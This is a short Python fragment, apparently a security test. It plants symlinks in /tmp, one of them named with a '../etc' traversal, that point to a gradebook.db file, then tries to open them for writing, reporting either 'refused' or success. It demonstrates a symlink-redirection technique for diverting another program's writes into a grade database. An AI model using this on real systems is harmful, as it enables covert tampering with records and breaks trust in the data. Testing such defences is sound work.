"""Put links in place of what the engine writes."""

for name in ("work", "../etc", "softmax"):
    try:
        os.symlink(f"{CLASS}/gradebook.db", f"/tmp/{name}")
        open(f"/tmp/{name}", "r+b")
    except OSError as error:
        print("refused:", error)
    else:
        got(name)
